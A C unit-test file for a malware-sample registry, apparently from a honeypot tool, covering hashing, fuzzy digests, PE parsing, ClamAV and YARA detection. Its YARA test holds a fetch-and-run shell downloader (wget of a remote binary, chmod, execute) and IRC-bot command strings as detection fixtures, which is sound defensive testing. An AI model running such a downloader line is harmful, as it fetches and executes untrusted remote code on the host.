/* Unit tests of the sample registry. Every test file is made by the test (harmless bytes);
 * the EICAR test string is assembled at run time, never stored in the repository. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "kansoku/ks_samples.h"
#include "kansoku/ks_store.h"
#include "samples/hashpass.h"
#include "samples/pe.h"
#include "samples/samples_config.h"
#ifdef KS_HAVE_LIBTLSH
#include "samples/tlsh_shim.h"
#endif

#include <dirent.h>
#include <fuzzy.h>
#include <openssl/evp.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char tmpdir[256];

static int setup(void **state)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/ks-samples-test.XXXXXX");
    return mkdtemp(tmpdir) ? 0 : -1;
}

static int teardown(void **state)
{
    char cmd[300];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmpdir);
    return system(cmd) == 0 ? 0 : -1;
}

static void write_file(const char *path, const void *p, size_t n)
{
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(p, 1, n, f), n);
    fclose(f);
}

static struct ks_samples *plain(void)
{
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    return s;
}

static const char *yara_dir(char *buf, size_t size)
{
    const char *src = getenv("KS_SRCDIR");
    snprintf(buf, size, "%s/data/yara", src ? src : ".");
    return buf;
}

static void le16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
}

static void le32(uint8_t *p, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        p[i] = (uint8_t)(v >> (8 * i));
}

/* A PE-looking image: DOS header, "PE\0\0", COFF header, a 224-byte optional header and
 * nsec section headers; section i has 4096 raw bytes at 0x400 + i * 0x1000, filled by fill. */
static size_t make_pe(uint8_t *buf, size_t size, unsigned nsec, const char *const *names,
                      void (*fill)(unsigned i, uint8_t *p, size_t n))
{
    size_t len = 0x400 + (size_t)nsec * 0x1000;
    assert_true(len <= size);
    memset(buf, 0, len);
    buf[0] = 'M';
    buf[1] = 'Z';
    le32(buf + 0x3c, 0x80);
    memcpy(buf + 0x80, "PE\0\0", 4);
    le16(buf + 0x84, 0x14c);
    le16(buf + 0x86, (uint16_t)nsec);
    le16(buf + 0x94, 224);
    le16(buf + 0x98, 0x10b);
    uint8_t *sh = buf + 0x98 + 224;
    for (unsigned i = 0; i < nsec; i++, sh += 40) {
        memcpy(sh, names[i], strlen(names[i]));
        le32(sh + 16, 0x1000);
        le32(sh + 20, 0x400 + i * 0x1000);
        le32(sh + 36, 0x60000020);
        fill(i, buf + 0x400 + i * 0x1000, 0x1000);
    }
    return len;
}

static void fill_zero_random(unsigned i, uint8_t *p, size_t n)
{
    uint64_t x = 0x9e3779b97f4a7c15ull;
    for (size_t k = 0; k < n; k++) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        p[k] = i == 0 ? 0 : (uint8_t)x;
    }
}

static void known_vectors_for_md5_sha1_sha256(void **state)
{
    struct ks_samples *s = plain();
    struct ks_sample_info *in = malloc(sizeof *in);
    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, in), KS_OK);
    assert_string_equal(in->md5, "900150983cd24fb0d6963f7d28e17f72");
    assert_string_equal(in->sha1, "a9993e364706816aba3e25717850c26c9cd0d89d");
    assert_string_equal(in->sha256,
                        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert_int_equal(strlen(in->md6), 64);
    assert_int_equal(in->size, 3);
    free(in);
    ks_samples_free(s);
}

static void file_and_memory_give_the_same_hashes(void **state)
{
    size_t n = 3u << 20 | 12345; /* several read chunks and a partial one */
    uint8_t *buf = malloc(n);
    fill_zero_random(1, buf, n);
    char path[300];
    snprintf(path, sizeof path, "%s/big.bin", tmpdir);
    write_file(path, buf, n);
    struct ks_samples *s = plain();
    struct ks_sample_info *a = malloc(sizeof *a), *b = malloc(sizeof *b);
    assert_int_equal(ks_samples_analyze_mem(s, buf, n, a), KS_OK);
    assert_int_equal(ks_samples_analyze_file(s, path, b), KS_OK);
    assert_string_equal(a->sha256, b->sha256);
    assert_string_equal(a->md5, b->md5);
    assert_string_equal(a->sha1, b->sha1);
    assert_string_equal(a->md6, b->md6);
    assert_string_equal(a->ssdeep, b->ssdeep);
    assert_string_equal(a->tlsh, b->tlsh);
    assert_true(a->entropy > 7.9);
    if (ks_samples_have("tlsh"))
        assert_true(a->tlsh[0] != '\0');
    free(a);
    free(b);
    free(buf);
    ks_samples_free(s);
}

static void pe_sections_give_entropy_and_upx_hint(void **state)
{
    static const char *const names[] = {"UPX0", "UPX1"};
    uint8_t *buf = malloc(1 << 16);
    size_t len = make_pe(buf, 1 << 16, 2, names, fill_zero_random);
    struct ks_samples *s = plain();
    struct ks_sample_info *in = malloc(sizeof *in);
    assert_int_equal(ks_samples_analyze_mem(s, buf, len, in), KS_OK);
    assert_true(in->pe);
    assert_int_equal(in->nsections, 2);
    assert_string_equal(in->sections[0].name, "UPX0");
    assert_true(in->sections[0].entropy < 0.01);
    assert_true(in->sections[1].entropy > 7.5);
    assert_true(in->upx);
    assert_string_equal(in->packer, "UPX");
    assert_string_equal(in->tags, "packed");
    assert_int_equal(in->pe_anomalies, 0);
    free(in);
    free(buf);
    ks_samples_free(s);
}

static void high_entropy_section_without_upx_is_a_packer_hint(void **state)
{
    static const char *const names[] = {".text", ".data"};
    uint8_t *buf = malloc(1 << 16);
    size_t len = make_pe(buf, 1 << 16, 2, names, fill_zero_random);
    struct ks_samples *s = plain();
    struct ks_sample_info *in = malloc(sizeof *in);
    assert_int_equal(ks_samples_analyze_mem(s, buf, len, in), KS_OK);
    assert_false(in->upx);
    assert_string_equal(in->packer, "high-entropy");
    assert_true(in->max_section_entropy > 7.2);
    free(in);
    free(buf);
    ks_samples_free(s);
}

static void truncated_pe_is_counted_not_fatal(void **state)
{
    static const char *const names[] = {".text"};
    uint8_t buf[0x1400];
    make_pe(buf, sizeof buf, 1, names, fill_zero_random);
    le16(buf + 0x86, 60000); /* many more section headers than the file holds */
    struct samples_pe pe;
    assert_int_equal(samples_pe_parse(buf, sizeof buf, sizeof buf, &pe), KS_ETRUNC);
    assert_true(pe.is_pe);
    assert_true(pe.anomalies > 0);
    assert_true(pe.nkept <= KS_SAMPLES_MAX_SECTIONS);
    /* A section pointing past the end of the file is clipped and counted. */
    make_pe(buf, sizeof buf, 1, names, fill_zero_random);
    le32(buf + 0x98 + 224 + 20, 0x7fffff00);
    assert_int_equal(samples_pe_parse(buf, sizeof buf, sizeof buf, &pe), KS_OK);
    assert_int_equal(pe.sec[0].raw_size, 0);
    assert_int_equal(pe.anomalies, 1);
    assert_int_equal(samples_pe_parse((const uint8_t *)"MZ", 2, 2, &pe), KS_EFORMAT);
}

static void executable_is_found_inside_a_payload(void **state)
{
    uint8_t buf[256] = "GET /x HTTP/1.0\r\n\r\n";
    size_t off = 0;
    size_t at = strlen((char *)buf);
    assert_false(ks_samples_find_executable(buf, at, &off));
    memcpy(buf + at,
           "\x7f"
           "ELF\x02\x01\x01",
           7);
    assert_true(ks_samples_find_executable(buf, sizeof buf, &off));
    assert_int_equal(off, at);
    assert_true(ks_samples_find_executable("#!/bin/sh\n", 10, &off));
    assert_int_equal(off, 0);
    assert_false(ks_samples_find_executable("MZ but not a PE header at all", 29, &off));
}

static void yara_rules_give_tags_and_indicators(void **state)
{
    char ydir[300];
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.yara_dir = yara_dir(ydir, sizeof ydir);
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    struct ks_sample_info *in = malloc(sizeof *in);
    static const char script[] = "#!/bin/sh\ncd /tmp || cd /var/run\n"
                                 "wget http://203.0.113.9/bins/arm7 -O .x; chmod +x .x; ./.x\n";
    assert_int_equal(ks_samples_analyze_mem(s, script, sizeof script - 1, in), KS_OK);
    assert_string_equal(in->tags, "downloader");
    assert_non_null(strstr(in->rules, "shell_downloader"));
    assert_int_equal(in->niocs, 1);
    assert_string_equal(in->iocs[0].kind, "url");
    assert_string_equal(in->iocs[0].value, "http://203.0.113.9/bins/arm7");
    /* An ELF-looking file with an IRC bot's vocabulary and its server. */
    uint8_t bot[512] = "\x7f"
                       "ELF\x01\x01\x01";
    static const char words[] = "NICK %s\r\nUSER %s 0 * :x\r\nJOIN #chan\r\nPRIVMSG #chan :ok\r\n"
                                "!ddos !scan !download irc.example.net:6667";
    memcpy(bot + 64, words, sizeof words);
    assert_int_equal(ks_samples_analyze_mem(s, bot, sizeof bot, in), KS_OK);
    assert_string_equal(in->tags, "bot");
    assert_int_equal(in->niocs, 1);
    assert_string_equal(in->iocs[0].kind, "cnc");
    assert_string_equal(in->iocs[0].value, "irc.example.net:6667");
    struct ks_samples_stats st;
    ks_samples_stats(s, &st);
    assert_true(st.yara_rules >= 5);
    free(in);
    ks_samples_free(s);
}

static void save_line(void *user, const char *module, const struct ks_loc *loc, int err,
                      const char *msg)
{
    if (err != KS_OK && *(uint32_t *)user == 0)
        *(uint32_t *)user = loc->line;
}

static void bad_yara_rule_is_reported_with_its_line(void **state)
{
    uint32_t line = 0;
    struct ks_diag diag = {save_line, &line, 0};
    char dir[300], path[320];
    snprintf(dir, sizeof dir, "%s/badrules", tmpdir);
    mkdir(dir, 0755);
    snprintf(path, sizeof path, "%s/x.yar", dir);
    write_file(path, "rule ok { condition: true }\nrule bad { condition: nosuch }\n", 56);
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.yara_dir = dir;
    assert_int_equal(ks_samples_new(&cfg, &diag, &s), KS_EFORMAT);
    assert_null(s);
    assert_int_equal(line, 2);
}

/* A ClamAV database made here: an MD5 signature (.hdb) of a harmless file and a SHA-256
 * signature (.hsb) of the EICAR test string. */
static void clamav_custom_database_gives_verdicts(void **state)
{
    char dir[300], path[320], line[300];
    char eicar[80];
    /* The EICAR anti-virus test string, assembled here (never stored as a file). */
    snprintf(eicar, sizeof eicar, "%s%s%s", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
             "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*");
    static const char harmless[] = "kansoku harmless test sample\n";
    struct ks_samples *p = plain();
    struct ks_sample_info *a = malloc(sizeof *a), *b = malloc(sizeof *b);
    assert_int_equal(ks_samples_analyze_mem(p, harmless, sizeof harmless - 1, a), KS_OK);
    assert_int_equal(ks_samples_analyze_mem(p, eicar, strlen(eicar), b), KS_OK);
    ks_samples_free(p);
    snprintf(dir, sizeof dir, "%s/clamdb", tmpdir);
    mkdir(dir, 0755);
    snprintf(path, sizeof path, "%s/test.hdb", dir);
    int n =
        snprintf(line, sizeof line, "%s:%zu:Kansoku.Test.Harmless\n", a->md5, sizeof harmless - 1);
    write_file(path, line, (size_t)n);
    snprintf(path, sizeof path, "%s/test.hsb", dir);
    n = snprintf(line, sizeof line, "%s:%zu:Kansoku.Test.Eicar\n", b->sha256, strlen(eicar));
    write_file(path, line, (size_t)n);

    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.clamav_db = dir;
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    assert_int_equal(ks_samples_analyze_mem(s, harmless, sizeof harmless - 1, a), KS_OK);
    assert_true(a->av_scanned);
    assert_non_null(strstr(a->av, "Kansoku.Test.Harmless"));
    snprintf(path, sizeof path, "%s/eicar.com", tmpdir);
    write_file(path, eicar, strlen(eicar));
    assert_int_equal(ks_samples_analyze_file(s, path, b), KS_OK);
    assert_non_null(strstr(b->av, "Kansoku.Test.Eicar"));
    assert_int_equal(ks_samples_analyze_mem(s, "clean bytes", 11, a), KS_OK);
    assert_true(a->av_scanned);
    assert_string_equal(a->av, "");
    struct ks_samples_stats st;
    ks_samples_stats(s, &st);
    assert_int_equal(st.av_signatures, 2);
    free(a);
    free(b);
    ks_samples_free(s);
}

static void clamav_testfiles_are_matched_by_hash_when_installed(void **state)
{
    const char *f = "/usr/share/clamav-testfiles/clam.exe";
    if (access(f, R_OK) != 0)
        skip(); /* Debian package clamav-testfiles not installed */
    struct ks_samples *p = plain();
    struct ks_sample_info *a = malloc(sizeof *a);
    assert_int_equal(ks_samples_analyze_file(p, f, a), KS_OK);
    assert_true(a->pe);
    ks_samples_free(p);
    char dir[300], path[320], line[200];
    snprintf(dir, sizeof dir, "%s/clamdb2", tmpdir);
    mkdir(dir, 0755);
    snprintf(path, sizeof path, "%s/t.hdb", dir);
    int n = snprintf(line, sizeof line, "%s:%llu:Kansoku.Test.ClamExe\n", a->md5,
                     (unsigned long long)a->size);
    write_file(path, line, (size_t)n);
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.clamav_db = dir;
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    assert_int_equal(ks_samples_analyze_file(s, f, a), KS_OK);
    assert_non_null(strstr(a->av, "Kansoku.Test.ClamExe"));
    free(a);
    ks_samples_free(s);
}

static void kept_samples_are_content_addressed_and_read_only(void **state)
{
    char dir[300], path[600];
    snprintf(dir, sizeof dir, "%s/kept", tmpdir);
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.dir = dir;
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    struct ks_sample_info *in = malloc(sizeof *in);
    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, in), KS_OK);
    bool is_new = false;
    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, in, &is_new), KS_OK);
    assert_true(is_new);
    assert_true(ks_samples_path(s, in->sha256, path, sizeof path) > 0);
    assert_non_null(strstr(path, "/ba/78/ba7816bf"));
    struct stat sb;
    assert_int_equal(stat(path, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0400);
    assert_int_equal(sb.st_size, 3);
    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, in, &is_new), KS_OK);
    assert_false(is_new);
    /* Bytes that do not match the analysis are refused. */
    struct ks_sample_info *other = malloc(sizeof *other);
    memcpy(other, in, sizeof *in);
    memcpy(other->sha256, "00", 2);
    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, other, NULL), KS_EFORMAT);
    free(other);
    free(in);
    ks_samples_free(s);
}

static int count_cb(void *user, size_t n, const char *const *names, const struct ks_store_value *v)
{
    *(int64_t *)user = v[0].v.i64;
    return 0;
}

static int64_t count(struct ks_store *st, const char *sql)
{
    int64_t n = -1;
    assert_int_equal(ks_store_query(st, sql, NULL, 0, count_cb, &n), KS_OK);
    return n;
}

static void record_writes_each_capture_and_each_sample_once(void **state)
{
    char db[300];
    snprintf(db, sizeof db, "%s/reg.db", tmpdir);
    struct ks_store *st = NULL;
    struct ks_ingest *ing = NULL;
    assert_int_equal(ks_store_open(db, NULL, &st), KS_OK);
    struct ks_store_input in = {.size = 1, .name = "t", .kind = "samples"};
    memset(in.sha256, 'a', 64);
    assert_int_equal(ks_store_input_begin(st, &in, 0, &ing), KS_OK);
    struct ks_samples *s = plain();
    struct ks_sample_info *info = malloc(sizeof *info);
    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, info), KS_OK);
    struct ks_sample_event ev = {.ts = 1000000, .via = "honeypot", .country = "JP", .asn = 2497};
    ks_addr_parse("192.0.2.1", 9, &ev.source);
    bool is_new = false;
    assert_int_equal(ks_samples_record(s, st, ing, &ev, info, false, &is_new), KS_OK);
    assert_true(is_new);
    ev.ts += 86400000000;
    assert_int_equal(ks_samples_record(s, st, ing, &ev, info, false, &is_new), KS_OK);
    assert_false(is_new);
    assert_int_equal(ks_store_input_end(ing, true), KS_OK);
    assert_int_equal(count(st, "SELECT count(*) FROM sample_events"), 2);
    assert_int_equal(count(st, "SELECT count(*) FROM samples"), 1);
    assert_int_equal(count(st, "SELECT count(*) FROM sample_events WHERE source = '192.0.2.1' "
                               "AND via = 'honeypot' AND country = 'JP' AND asn = 2497"),
                     2);
    free(info);
    ks_samples_free(s);
    ks_store_close(st);
}

static void oversize_samples_are_refused(void **state)
{
    struct ks_samples_config cfg;
    struct ks_samples *s = NULL;
    ks_samples_config_default(&cfg);
    cfg.max_size = 10;
    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
    struct ks_sample_info *in = malloc(sizeof *in);
    assert_int_equal(ks_samples_analyze_mem(s, "0123456789a", 11, in), KS_ELIMIT);
    assert_int_equal(ks_samples_analyze_mem(s, "", 0, in), KS_OK);
    assert_string_equal(in->sha256,
                        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    struct ks_samples_stats st;
    ks_samples_stats(s, &st);
    assert_int_equal(st.refused, 1);
    free(in);
    ks_samples_free(s);
}

/* --- hand-written ssdeep and TLSH against the libraries ------------------------------------ */

static uint64_t rng_state = 88172645463325252ull;

static uint64_t rng(void)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 7;
    rng_state ^= rng_state << 17;
    return rng_state;
}

static void fill_random(uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        p[i] = (uint8_t)(rng() >> 24);
}

/* Our MD5, SHA-1 and SHA-256 (with the SHA extensions) and fuzzy digests of p, fed in pieces of
 * `piece` bytes (0: at once) with the SIMD code on or off, against libfuzzy's and libtlsh's; the
 * first difference fails with its name. */
static void check_fuzzy_digests(const char *what, const uint8_t *p, size_t n, size_t piece)
{
    char want[FUZZY_MAX_RESULT], got[SAMPLES_SSDEEP_MAX];
    uint8_t md5_want[EVP_MAX_MD_SIZE];
    unsigned md5_len = 0;
    assert_int_equal(EVP_Digest(p, n, md5_want, &md5_len, EVP_md5(), NULL), 1);
    uint8_t sha256_want[EVP_MAX_MD_SIZE], sha1_want[EVP_MAX_MD_SIZE];
    assert_int_equal(EVP_Digest(p, n, sha1_want, &md5_len, EVP_sha1(), NULL), 1);
    assert_int_equal(EVP_Digest(p, n, sha256_want, &md5_len, EVP_sha256(), NULL), 1);
    assert_int_equal(fuzzy_hash_buf(p, (uint32_t)n, want), 0);
    char pub[KS_SAMPLES_SSDEEP_MAX];
    assert_true(ks_samples_ssdeep(p, n, pub)); /* the public one-shot (mail bodies) */
    if (strcmp(pub, want) != 0)
        fail_msg("%s: ks_samples_ssdeep %s, libfuzzy %s", what, pub, want);
#ifdef KS_HAVE_LIBTLSH
    char twant[80], tgot[80];
    struct samples_libtlsh *lt = samples_libtlsh_new();
    assert_non_null(lt);
    samples_libtlsh_update(lt, p, n);
    samples_libtlsh_final(lt, twant, sizeof twant);
    samples_libtlsh_free(lt);
#endif
    /* each way: separate updates or the fused pass (with the byte histogram), SIMD off or on */
    for (int way = 0; way < 4; way++) {
        int simd = way & 1, fused = way >> 1;
        samples_fuzzy_simd = simd;
        struct samples_ssdeep *s = aligned_alloc(64, sizeof *s);
        struct samples_tlshc *t = malloc(sizeof *t);
        uint64_t(*hist)[256] = calloc(4, sizeof *hist);
        assert_non_null(s);
        assert_non_null(t);
        assert_non_null(hist);
        struct samples_md5 m5v, *m5 = &m5v;
        struct samples_sha256 shv, *sh = samples_sha256_hw() ? &shv : NULL;
        struct samples_sha1 s1v, *s1 = sh ? &s1v : NULL;
        samples_sha1_init(&s1v);
        samples_md5_init(m5);
        samples_sha256_init(&shv);
        samples_ssdeep_init(s);
        samples_tlshc_init(t);
        for (size_t off = 0; off < n;) {
            size_t m = piece && piece < n - off ? piece : n - off;
            if (fused) {
                samples_fuzzy_update(m5, s1, sh, s, t, hist, p + off, m);
            } else {
                samples_md5_update(m5, p + off, m);
                if (sh) {
                    samples_sha1_update(s1, p + off, m);
                    samples_sha256_update(sh, p + off, m);
                }
                samples_ssdeep_update(s, p + off, m);
                samples_tlshc_update(t, p + off, m);
            }
            off += m;
        }
        uint8_t md5[16], sha256[32], sha1[20];
        if (sh) {
            samples_sha1_final(s1, sha1);
            if (memcmp(sha1, sha1_want, 20) != 0)
                fail_msg("SHA-1 of %s (%zu bytes, pieces %zu, simd %d, fused %d) differs from "
                         "OpenSSL's",
                         what, n, piece, simd, fused);
            samples_sha256_final(sh, sha256);
            if (memcmp(sha256, sha256_want, 32) != 0)
                fail_msg("SHA-256 of %s (%zu bytes, pieces %zu, simd %d, fused %d) differs from "
                         "OpenSSL's",
                         what, n, piece, simd, fused);
        }
        samples_md5_final(m5, md5);
        if (memcmp(md5, md5_want, 16) != 0)
            fail_msg("MD5 of %s (%zu bytes, pieces %zu, simd %d, fused %d) differs from OpenSSL's",
                     what, n, piece, simd, fused);
        assert_int_equal(samples_ssdeep_digest(s, got), 0);
        if (strcmp(want, got) != 0)
            fail_msg("ssdeep of %s (%zu bytes, pieces %zu, simd %d, fused %d): %s, libfuzzy %s",
                     what, n, piece, simd, fused, got, want);
#ifdef KS_HAVE_LIBTLSH
        samples_tlshc_final(t, tgot, sizeof tgot);
        if (strcmp(twant, tgot) != 0)
            fail_msg("TLSH of %s (%zu bytes, pieces %zu, simd %d, fused %d): '%s', libtlsh '%s'",
                     what, n, piece, simd, fused, tgot, twant);
#endif
        if (fused) {
            uint64_t count[256] = {0};
            for (size_t i = 0; i < n; i++)
                count[p[i]]++;
            for (unsigned b = 0; b < 256; b++)
                assert_int_equal(hist[0][b] + hist[1][b] + hist[2][b] + hist[3][b], count[b]);
        }
        free(s);
        free(t);
        free(hist);
    }
    samples_fuzzy_simd = 1;
}

static void fuzzy_hashes_match_the_libraries_on_random_inputs_of_many_sizes(void **state)
{
    /* tiny inputs, TLSH's 256-byte minimum, the SIMD strides, ssdeep's block-size borders
     * (3 << i) * 64 and several MB */
    static const size_t sizes[] = {
        0,     1,      2,      3,       4,       5,       6,       7,      8,     63,
        64,    68,     69,     70,      71,      85,      100,     191,    192,   193,
        255,   256,    257,    300,     383,     384,     385,     1000,   1535,  1536,
        4095,  4096,   4097,   6143,    6144,    12288,   12289,   49152,  49153, 65536,
        98304, 196609, 786432, 1000003, 3145728, 3145729, 6291457, 7340033};
    size_t max = 7340033;
    uint8_t *buf = malloc(max);
    assert_non_null(buf);
    char what[64];
    for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
        fill_random(buf, sizes[i]);
        snprintf(what, sizeof what, "random #%zu", i);
        check_fuzzy_digests(what, buf, sizes[i], 0);
    }
    free(buf);
}

static void fuzzy_hashes_do_not_depend_on_how_the_input_is_cut(void **state)
{
    static const size_t pieces[] = {1, 3, 7, 64, 65, 69, 100, 4099, 65536};
    size_t n = 300000;
    uint8_t *buf = malloc(n);
    assert_non_null(buf);
    fill_random(buf, n);
    for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++)
        check_fuzzy_digests("random, in pieces", buf, n, pieces[i]);
    free(buf);
}

static void fuzzy_hashes_match_the_libraries_on_low_entropy_inputs(void **state)
{
    size_t n = 1u << 20;
    uint8_t *buf = malloc(n);
    assert_non_null(buf);
    static const size_t sizes[] = {255, 256, 300, 5000, 70000, 1u << 20};
    for (size_t k = 0; k < sizeof sizes / sizeof sizes[0]; k++) {
        size_t m = sizes[k];
        memset(buf, 0, m);
        check_fuzzy_digests("zeros", buf, m, 0);
        memset(buf, 0xff, m);
        check_fuzzy_digests("0xff", buf, m, 0);
        for (size_t i = 0; i < m; i++)
            buf[i] = (uint8_t)(i & 1 ? 'b' : 'a');
        check_fuzzy_digests("abab", buf, m, 0);
        for (size_t i = 0; i < m; i++)
            buf[i] = (uint8_t)i;
        check_fuzzy_digests("0..255", buf, m, 0);
        for (size_t i = 0; i < m; i++)
            buf[i] = "ABCDEFG"[i % 7];
        check_fuzzy_digests("period 7", buf, m, 0);
        memset(buf, 0, m);
        for (size_t i = 0; i < m; i += 97)
            buf[i] = (uint8_t)rng();
        check_fuzzy_digests("sparse", buf, m, 0);
        for (size_t i = 0; i < m; i++)
            buf[i] = (uint8_t)(rng() & 3);
        check_fuzzy_digests("two bits", buf, m, 0);
        for (size_t i = 0; i < m; i++)
            buf[i] = "the quick brown fox jumps over the lazy dog\n"[i % 44];
        check_fuzzy_digests("text", buf, m, 0);
    }
    free(buf);
}

static void check_tree(const char *dir, unsigned *files)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char path[1024];
        struct stat sb;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (stat(path, &sb) != 0)
            continue;
        if (S_ISDIR(sb.st_mode)) {
            check_tree(path, files);
            continue;
        }
        if (!S_ISREG(sb.st_mode) || sb.st_size > (64 << 20))
            continue;
        size_t n = (size_t)sb.st_size;
        uint8_t *buf = malloc(n ? n : 1);
        assert_non_null(buf);
        int fd = open(path, O_RDONLY);
        assert_true(fd >= 0);
        size_t got = 0;
        while (got < n) {
            ssize_t r = read(fd, buf + got, n - got);
            assert_true(r > 0);
            got += (size_t)r;
        }
        close(fd);
        check_fuzzy_digests(path, buf, n, 0);
        free(buf);
        (*files)++;
    }
    closedir(d);
}

static void fuzzy_hashes_match_the_libraries_on_every_test_file(void **state)
{
    const char *td = getenv("KS_TESTDATA");
    if (!td || access(td, R_OK) != 0)
        skip(); /* no shared test data on this machine */
    unsigned files = 0;
    check_tree(td, &files);
    assert_true(files > 0);
}

/* --- the one-shot ssdeep (ks_samples_ssdeep, every mail body) ---------------------------------
 * It knows the length and computes only the block sizes the digest reads, so the cases below
 * are the ones of fuzzy_digest's choice: the walk down from the first guess, the guess clamped
 * to the largest block size that exists, no trigger at all, and the bound above which the
 * streaming engine takes over. */

/* ks_samples_ssdeep of p with the SIMD code on and off against libfuzzy's fuzzy_hash_buf. */
static void check_one_shot(const char *what, const uint8_t *p, size_t n)
{
    char want[FUZZY_MAX_RESULT], got[KS_SAMPLES_SSDEEP_MAX];
    assert_int_equal(fuzzy_hash_buf(p, (uint32_t)n, want), 0);
    for (int simd = 0; simd < 2; simd++) {
        samples_fuzzy_simd = simd;
        bool ok = ks_samples_ssdeep(p, n, got);
        samples_fuzzy_simd = 1;
        if (!ok || strcmp(got, want) != 0)
            fail_msg("one-shot ssdeep of %s (%zu bytes, simd %d): %s, libfuzzy %s", what, n, simd,
                     got, want);
    }
}

#define EVERY_LENGTH 4096

/* Every length 0..EVERY_LENGTH of p (the prefixes). */
static void check_every_length(const char *what, const uint8_t *p)
{
    for (size_t n = 0; n <= EVERY_LENGTH; n++)
        check_one_shot(what, p, n);
}

/* Words, spaces, full stops and lines of about 70 characters. */
static void fill_text(uint8_t *p, size_t n)
{
    static const char *const words[] = {
        "the",   "of",      "and",      "to",       "in",     "a",        "is",   "that",
        "for",   "it",      "as",       "was",      "with",   "be",       "by",   "on",
        "not",   "he",      "this",     "are",      "or",     "his",      "from", "at",
        "which", "but",     "have",     "an",       "had",    "they",     "you",  "were",
        "their", "one",     "all",      "we",       "can",    "her",      "has",  "there",
        "been",  "if",      "more",     "when",     "will",   "would",    "who",  "so",
        "no",    "account", "password", "invoice",  "please", "verify",   "bank", "click",
        "link",  "urgent",  "payment",  "security", "update", "customer", "Dear", "Regards"};
    size_t col = 0;
    for (size_t i = 0; i < n;) {
        const char *w = words[rng() % (sizeof words / sizeof words[0])];
        for (; *w && i < n; w++, col++)
            p[i++] = (uint8_t)*w;
        if (i < n && rng() % 9 == 0)
            p[i++] = '.';
        if (i < n) {
            p[i++] = col > 70 ? '\n' : ' ';
            col = col > 70 ? 0 : col + 1;
        }
    }
}

/* Lines of 76 base64 characters, as in a MIME attachment. */
static void fill_base64_lines(uint8_t *p, size_t n)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < n; i++)
        p[i] = i % 77 == 76 ? '\n' : (uint8_t)b64[rng() % 64];
}

/* The same line over and over. */
static void fill_repeated_line(uint8_t *p, size_t n)
{
    static const char line[] = "> Please confirm your account details before Friday.\r\n";
    for (size_t i = 0; i < n; i++)
        p[i] = (uint8_t)line[i % (sizeof line - 1)];
}

/* How many block sizes fuzzy_digest went down from its first guess (the smallest whose 64
 * characters cover n bytes) to the block size of digest d. */
static unsigned walk_down(size_t n, const char *d)
{
    unsigned g = 0, k = 0;
    while ((uint64_t)(3u << g) * 64 < n)
        g++;
    unsigned long bs = strtoul(d, NULL, 10);
    while ((3ul << k) < bs)
        k++;
    return g - k;
}

static void one_shot_ssdeep_matches_libfuzzy_on_every_length_of_random_bytes(void **state)
{
    uint8_t *buf = malloc(EVERY_LENGTH);
    assert_non_null(buf);
    fill_random(buf, EVERY_LENGTH);
    check_every_length("random", buf);
    free(buf);
}

static void one_shot_ssdeep_matches_libfuzzy_on_every_length_of_english_like_text(void **state)
{
    uint8_t *buf = malloc(EVERY_LENGTH);
    assert_non_null(buf);
    fill_text(buf, EVERY_LENGTH);
    check_every_length("text", buf);
    free(buf);
}

static void one_shot_ssdeep_matches_libfuzzy_on_every_length_of_base64_lines(void **state)
{
    uint8_t *buf = malloc(EVERY_LENGTH);
    assert_non_null(buf);
    fill_base64_lines(buf, EVERY_LENGTH);
    check_every_length("base64", buf);
    free(buf);
}

static void one_shot_ssdeep_matches_libfuzzy_on_every_length_of_a_repeated_line(void **state)
{
    uint8_t *buf = malloc(EVERY_LENGTH);
    assert_non_null(buf);
    fill_repeated_line(buf, EVERY_LENGTH);
    check_every_length("repeated line", buf);
    free(buf);
}

static void one_shot_ssdeep_matches_libfuzzy_on_every_length_of_one_repeated_byte(void **state)
{
